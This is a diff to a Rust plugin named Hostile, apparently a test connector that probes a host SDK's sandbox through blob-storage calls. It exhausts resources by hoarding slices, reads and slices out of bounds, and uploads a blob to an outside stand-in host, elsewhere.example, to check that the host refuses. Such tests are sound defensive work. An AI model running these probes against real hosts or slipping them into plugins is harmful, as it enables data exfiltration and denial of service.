@@ -167,4 +167,54 @@ impl Connector for Hostile {
     }
 }
 
-patchbay_sdk::export!(Hostile: actions);
+/// Attacks on blobs, chosen by the name of the file to save.
+fn abuse_blob(attack: &str, content: &Blob) -> Result<String> {
+    Ok(match attack {
+        // Hoards slices until the host refuses one.
+        "hoard-slices" => {
+            let mut hoard = Vec::new();
+            let refusal = loop {
+                match content.slice(0, 1) {
+                    Ok(slice) => hoard.push(slice),
+                    Err(error) => break format!("{error:?}"),
+                }
+                if hoard.len() > 100_000 {
+                    break "never refused".into();
+                }
+            };
+            serde_json::json!({ "held": hoard.len(), "refusal": refusal }).to_string()
+        }
+        // Reads past the end, asks for everything at once, cuts outside.
+        "peek-beyond" => {
+            let size = content.size();
+            serde_json::json!({
+                "past-the-end": format!("{:?}", content.read(size + 1, 10)),
+                "all-at-once": content.read(0, u32::MAX).map(|bytes| bytes.len()).unwrap_or(0),
+                "slice-outside": format!("{:?}", content.slice(size - 1, 5).err()),
+                "slice-overflow": format!("{:?}", content.slice(u64::MAX, 2).err()),
+            })
+            .to_string()
+        }
+        // A body in the request and a blob beside it; a blob to a host
+        // outside the grant.
+        "smuggle" => {
+            let base = config::require("base")?;
+            let both = Request::put(format!("{base}/upload")).body("inline").send_blob(content);
+            let elsewhere = Request::put("https://elsewhere.example/upload").send_blob(content);
+            serde_json::json!({
+                "body-and-blob": format!("{:?}", both.err()),
+                "elsewhere": format!("{:?}", elsewhere.err()),
+            })
+            .to_string()
+        }
+        other => return Err(Error::Unsupported(format!("no blob attack {other:?}"))),
+    })
+}
+
+impl BlobStorage for Hostile {
+    fn save_blob(name: String, content: &Blob) -> Result<String> {
+        abuse_blob(&name, content)
+    }
+}
+
+patchbay_sdk::export!(Hostile: actions, blob_storage);
